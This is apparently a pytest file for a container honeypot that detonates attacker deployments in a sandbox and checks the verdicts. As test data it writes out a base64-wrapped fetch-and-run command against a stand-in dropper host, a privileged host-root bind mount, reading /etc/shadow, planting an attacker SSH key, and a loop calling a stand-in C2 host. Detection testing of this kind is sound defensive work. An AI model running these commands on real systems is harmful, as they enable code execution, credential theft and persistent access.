"""A honeypot deployment detonated for real: the attacker pulls the bundled `benign-web` image
(from the local test registry) and runs it with its own base64 `sh -c` command; what
`detonate honeypot-worker` runs detonates the queued scan in the sandbox as deployed, and the
verdict follows the command."""

from __future__ import annotations

import base64
import json
import signal
import subprocess
import sys

import pytest

from detonate.honeypot.worker import drain
from detonate.model.options import AcquireOptions, SandboxOptions, ScanOptions
from detonate.store import ScanStatus
from sandbox.run_traces import RunTraces

from .test_attack_sequences import call

PAYLOAD = "wget -qO- http://dropper.test/x.sh | sh"


@pytest.mark.sandbox
@pytest.mark.registry
@pytest.mark.slow
def test_a_clean_image_deployed_with_a_malicious_command_is_detonated_as_run(
    start_honeypot, registry, built_samples, tmp_path
):
    registry.push(built_samples["benign-web"].archive_reference, "benign-web:1")
    live = start_honeypot()
    image = f"{registry.host}/benign-web"
    assert call(live, "POST", f"/v1.41/images/create?fromImage={image}&tag=1")[0] == 200
    blob = base64.b64encode(PAYLOAD.encode()).decode()
    create = {
        "Image": f"{image}:1",
        "Entrypoint": ["/bin/sh", "-c"],
        "Cmd": [f"echo {blob} | base64 -d | sh"],
        "User": "root",
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"]},
    }
    status, _, body = call(live, "POST", "/v1.41/containers/create", create)
    assert status == 201, body
    (deployment,) = live.deployments()
    assert json.loads(deployment.decoded_json) == [PAYLOAD]

    options = ScanOptions(
        cache_dir=tmp_path / "cache",
        acquire=AcquireOptions(tls_verify=False),
        sandbox=SandboxOptions(timeout_seconds=45, idle_seconds=6),
    )
    assert deployment.scan_id is not None
    # what `detonate honeypot-worker --allow-registry 127.0.0.1:PORT` runs
    (finished,) = drain(live.store, options, registries=("docker.io", registry.host))
    assert finished.id == deployment.scan_id
    assert finished.status is ScanStatus.DONE, finished
    assert finished.verdict in ("malicious", "suspicious")
    report = json.loads(live.store.report_json(deployment.scan_id) or "{}")
    argvs = [" ".join(p["argv"]) for p in report["processes"]]
    assert any("base64 -d" in argv for argv in argvs)  # the attacker's command ran...
    assert any(argv.startswith("wget") for argv in argvs)  # ...and its decoded stage
    assert not any("httpd" in argv for argv in argvs)  # not the image's own entrypoint
    techniques = {f["technique"] for f in report["findings"]}
    assert techniques & {"T1105", "T1140", "T1059.004"}


@pytest.mark.sandbox
@pytest.mark.registry
@pytest.mark.slow
def test_a_deployment_binding_the_host_root_reads_and_writes_the_fake_host(
    start_honeypot, registry, built_samples, tmp_path
):
    registry.push(built_samples["benign-web"].archive_reference, "benign-web:1")
    live = start_honeypot()
    image = f"{registry.host}/benign-web"
    assert call(live, "POST", f"/v1.41/images/create?fromImage={image}&tag=1")[0] == 200
    command = (
        "cat /host/etc/shadow > /dev/null; "
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKE attacker@c2.test' "
        ">> /host/root/.ssh/authorized_keys"
    )
    create = {
        "Image": f"{image}:1",
        "Entrypoint": ["/bin/sh", "-c"],
        "Cmd": [command],
        "User": "root",  # the image's own user could not read the host's /etc/shadow
        "HostConfig": {"Binds": ["/:/host"]},
    }
    assert call(live, "POST", "/v1.41/containers/create", create)[0] == 201
    (deployment,) = live.deployments()
    assert json.loads(deployment.escape_intent_json) == ["host-mount:/"]

    options = ScanOptions(
        cache_dir=tmp_path / "cache",
        acquire=AcquireOptions(tls_verify=False),
        sandbox=SandboxOptions(timeout_seconds=45, idle_seconds=6),
    )
    (finished,) = drain(live.store, options, registries=(registry.host,))
    assert finished.status is ScanStatus.DONE, finished
    assert finished.verdict in ("malicious", "suspicious")
    report = json.loads(live.store.report_json(finished.id) or "{}")
    evidence = {
        finding["rule_id"]: {e["path"]: e["description"] for e in finding["evidence"]}
        for finding in report["findings"]
    }
    assert "read the planted shadow" in evidence["honeytoken-read"]["/host/etc/shadow"]
    written = evidence["host-filesystem-write"]["/host/root/.ssh/authorized_keys"]
    assert "the host's /root/.ssh/authorized_keys (bind / at /host)" in written
    tokens = {t["path"] for t in report["honeytokens"]}
    assert {"/host/etc/shadow", "/host/root/.ssh/id_rsa"} <= tokens


# Busy until the run's timeout (never idle) and bounded: a stand-in to be stopped mid-run.
BUSY = (
    "i=0; while [ $i -lt 100000 ]; do wget -q -O /dev/null http://c2.example.test/$i; "
    "i=$((i+1)); done"
)


@pytest.mark.sandbox
@pytest.mark.registry
@pytest.mark.slow
def test_sigterm_stops_the_worker_and_its_scan_goes_back_to_the_queue(
    start_honeypot, registry, built_samples, tmp_path
):
    """As systemd or Kubernetes stops `detonate honeypot-worker` mid-scan: it exits 0, the run
    is torn down before it exits, and the scan is queued again (not lost as "running", not
    failed), for the next start to detonate."""
    registry.push(built_samples["benign-web"].archive_reference, "benign-web:1")
    live = start_honeypot()
    image = f"{registry.host}/benign-web"
    assert call(live, "POST", f"/v1.41/images/create?fromImage={image}&tag=1")[0] == 200
    create = {"Image": f"{image}:1", "Entrypoint": ["/bin/sh", "-c"], "Cmd": [BUSY]}
    assert call(live, "POST", "/v1.41/containers/create", create)[0] == 201
    (deployment,) = live.deployments()
    assert deployment.scan_id is not None
    worker = subprocess.Popen(
        [
            *(sys.executable, "-m", "detonate", "honeypot-worker"),
            *("--db", f"sqlite:///{tmp_path / 'honeypot.db'}", "--poll", "0.2"),
            *("--cache-dir", str(tmp_path / "cache"), "--timeout", "300"),
            *("--allow-registry", registry.host, "--unsafe-skip-tls-verify"),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        traces = RunTraces.wait_for(worker)
        assert live.store.get_scan(deployment.scan_id).status is ScanStatus.RUNNING
        worker.send_signal(signal.SIGTERM)
        assert worker.wait(60) == 0, worker.stderr.read() if worker.stderr else ""
        assert traces.remaining() == []  # torn down before it exited
    finally:
        if worker.poll() is None:
            worker.kill()
            worker.wait()
    again = live.store.get_scan(deployment.scan_id)
    assert again.status is ScanStatus.QUEUED, again
    assert again.attempts == 0  # the stopped attempt is not counted against the scan
